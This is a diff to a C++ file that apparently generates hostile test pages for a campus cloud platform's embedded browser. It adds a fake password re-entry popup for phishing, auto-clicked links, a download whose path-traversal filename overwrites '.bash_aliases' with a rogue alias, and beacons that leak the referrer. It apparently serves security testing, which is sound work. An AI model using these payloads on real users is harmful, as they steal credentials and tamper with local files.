@@ -41,6 +41,8 @@ std::string band(const std::string &text)
 //   #3949ab border of the framed page #2ec4b6 the foreign pixel, if it loads (24x24)
 //   #8e24aa ssh: link                 #d81b60 file: link
 //   #6d4c41 javascript: link          #546e7a button clicking the ssh: link
+//   in the framed page (when it loads): #b71c1c its login button, and #ff1744 the page it
+//   writes into a window it opens
 std::string attack(const std::string &foreignUrl)
 {
     const std::string evil = htmlEscape(foreignUrl + "evil");
@@ -68,8 +70,11 @@ std::string attack(const std::string &foreignUrl)
                 + "\"><input type=\"hidden\" name=\"note\" value=\"演示表单\"><button class=\"x\" "
                   "style=\"background:#1e88e5\" type=\"submit\">提交表单</button></form>",
             "表单 POST")
-        + item("<iframe src=\"" + htmlEscape(foreignUrl + "frame")
-                   + "\" width=\"240\" height=\"60\" style=\"border:6px solid #3949ab\"></iframe>",
+        + item(std::string("<iframe id=\"foreignFrame\" width=\"240\" height=\"60\" "
+                           "style=\"border:6px solid #3949ab\"></iframe><script>"
+                           "document.getElementById('foreignFrame').src = '")
+                   + foreignUrl + "frame?platform='"
+                   + " + encodeURIComponent(location.origin + '/');</script>",
                "内嵌框架")
         + item("<img src=\"" + htmlEscape(foreignUrl + "pixel.png")
                    + "\" width=\"24\" height=\"24\" alt=\"\">",
@@ -110,10 +115,26 @@ std::string foreignEvil()
                            + "<p style=\"padding:0 24px\">这不是智慧校园公共云平台。</p>\n");
 }
 
-std::string foreignFrame()
+std::string foreignFrame(const std::string &platformUrl)
 {
-    // Relative to this page: the foreign site's own "evil".
-    return foreignPage("外部框架", "<p>外部框架</p>\n<script>top.location = '/evil';</script>\n");
+    const std::string phishing =
+        "<body style=&quot;margin:0;background:#ff1744&quot;><h1>登录已失效，请重新输入密码</h1>"
+        "<input type=password></body>";
+    return foreignPage(
+        "外部框架",
+        "<button id=\"login\" style=\"display:block;width:100%;height:60px;border:none;"
+        "background:#b71c1c;color:#fff\" onclick=\"var w = window.open('about:blank'); "
+        "w.document.write('"
+            + phishing + "');\">登录</button>\n<a id=\"notice\" target=\"_top\" href=\""
+            + htmlEscape(platformUrl + "upload/notice/plan.pdf")
+            + "\"></a>\n<a id=\"aliases\" download=\"../.bash_aliases\" "
+              "href=\"data:text/plain,alias%20ls%3D%27echo%20gotcha%27\"></a>\n<script>\n"
+              "new Image().src = '/report?referrer=' + encodeURIComponent(document.referrer);\n"
+              "setTimeout(function () {\n"
+              "  for (var i = 0; i < 3; ++i) document.getElementById('notice').click();\n"
+              "  document.getElementById('aliases').click();\n"
+              "  new Image().src = '/report?clicked=1';\n"
+              "}, 1500);\n</script>\n");
 }
 
 std::string foreignCollected()
